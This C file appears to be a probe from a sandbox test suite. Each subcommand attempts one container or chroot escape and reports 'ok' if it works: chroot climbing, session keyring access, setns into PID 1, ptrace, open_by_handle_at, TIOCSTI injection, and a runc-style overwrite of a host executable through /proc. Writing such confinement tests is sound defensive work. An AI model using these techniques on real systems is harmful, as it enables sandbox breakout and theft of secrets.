/* Attacks that a shell cannot express; prints "ok" and exits 0 when the attack WORKED. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int report(long result)
{
    if (result < 0) {
        printf("%s\n", strerror(errno));
        return 1;
    }
    printf("ok\n");
    return 0;
}

/* Leave by the old trick: chroot below the working directory, then climb. */
static int chroot_escape(const char *marker)
{
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail"))
        return report(-1);
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            return report(-1);
    if (chroot("."))
        return report(-1);
    return report(open(marker, O_RDONLY));
}

/* Search the session keyring of whoever launched us; keyctl(2), add_key(2). */
static int find_key(const char *description)
{
    return report(syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3 /* session */, "user", description, 0));
}

static int add_key(const char *description)
{
    return report(syscall(SYS_add_key, "user", description, "secret", 6, -3));
}

static int fd_count(void)
{
    int found = 0;
    for (int fd = 0; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            found++;
    printf("%d\n", found);
    return 0;
}

static int new_mount(void)
{
    long fd = syscall(SYS_fsopen, "tmpfs", 0);
    if (fd < 0 || syscall(SYS_fsconfig, fd, 6, NULL, NULL, 0) < 0)
        return report(-1);
    return report(syscall(SYS_fsmount, fd, 0, 0));
}

/* Look through the descriptors and the program of every process that appears; see runc's
 * CVE-2016-9962 and CVE-2019-5736. Prints what could be opened until told to stop by its stdin. */
static int spy(const char *until)
{
    int seen = 0;
    while (access(until, F_OK)) {
        for (int pid = 2; pid < 64; pid++) {
            char path[64], text[256];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, text, sizeof text - 1);
            if (n > 0) {
                text[n] = 0;
                if (strstr(text, "bulkhead-holder")) {
                    printf("exe of %d: %s\n", pid, text);
                    return 0;
                }
            }
            for (int fd = 3; fd < 32; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                n = readlink(path, text, sizeof text - 1);
                text[n > 0 ? n : 0] = 0;
                if (n > 0 && strcmp(text, until)) { /* touch(1) has that one open */
                    printf("fd %d of %d: %s\n", fd, pid, text);
                    return 0;
                }
            }
        }
        seen++;
    }
    printf("nothing\n");
    return 0;
}

/* Hold the program file of a process that is the launcher's, then write to it once it may be. */
static int overwrite(const char *until)
{
    int held = -1, last = 0;
    while (access(until, F_OK)) {
        for (int pid = 2; pid < 128 && held < 0; pid++) {
            char path[64];
            struct stat theirs, ours;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if (!stat(path, &theirs) && !stat("/bin/busybox", &ours) && theirs.st_dev != ours.st_dev)
                held = open(path, O_PATH);
        }
        if (held >= 0) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
            if (open(path, O_WRONLY) >= 0) {
                printf("opened for writing\n");
                return 0;
            }
            last = errno;
        }
    }
    if (last)
        printf("%s\n", strerror(last));
    return 0;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "", *argument = argc > 2 ? argv[2] : "";
    if (!strcmp(what, "chroot"))
        return chroot_escape(argument);
    if (!strcmp(what, "find-key"))
        return find_key(argument);
    if (!strcmp(what, "add-key"))
        return add_key(argument);
    if (!strcmp(what, "fds"))
        return fd_count();
    if (!strcmp(what, "fsmount"))
        return new_mount();
    if (!strcmp(what, "mount"))
        return report(mount("none", "/tmp", "tmpfs", 0, ""));
    if (!strcmp(what, "userns"))
        return report(unshare(CLONE_NEWUSER));
    if (!strcmp(what, "setns"))
        return report(setns(open("/proc/1/ns/mnt", O_RDONLY), 0));
    if (!strcmp(what, "ptrace"))
        return report(ptrace(PTRACE_ATTACH, atoi(argument), NULL, NULL));
    if (!strcmp(what, "handle")) {
        struct { unsigned bytes; int type; unsigned char data[8]; } handle = {8, 1, {2}};
        return report(syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &handle, O_RDONLY));
    }
    if (!strcmp(what, "tiocsti"))
        return report(ioctl(0, TIOCSTI, "x"));
    if (!strcmp(what, "bpf"))
        return report(syscall(SYS_bpf, 0, NULL, 0) < 0 && errno == EPERM ? -1 : 0);
    if (!strcmp(what, "spy"))
        return spy(argument);
    if (!strcmp(what, "overwrite"))
        return overwrite(argument);
    fprintf(stderr, "probe: unknown attack\n");
    return 2;
}
